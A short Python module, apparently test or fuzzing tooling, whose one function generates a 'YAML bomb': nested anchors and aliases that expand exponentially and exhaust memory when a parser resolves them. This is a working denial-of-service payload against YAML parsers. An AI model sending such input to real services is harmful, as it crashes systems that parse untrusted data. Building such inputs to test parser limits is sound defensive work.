"""A YAML bomb: few lines that stand for more than any memory holds."""

from __future__ import annotations


def bomb(first: str, around: str, *, levels: int = 9, width: int = 9) -> str:
    """Lines of which each repeats the one before `width` times, by aliases; `around` takes them, as a format."""
    lines = [f"a0: &a0 {first}"]
    for level in range(1, levels):
        lines.append(f"a{level}: &a{level} " + around.format(", ".join([f"*a{level - 1}"] * width)))
    return "\n".join(lines) + "\n"
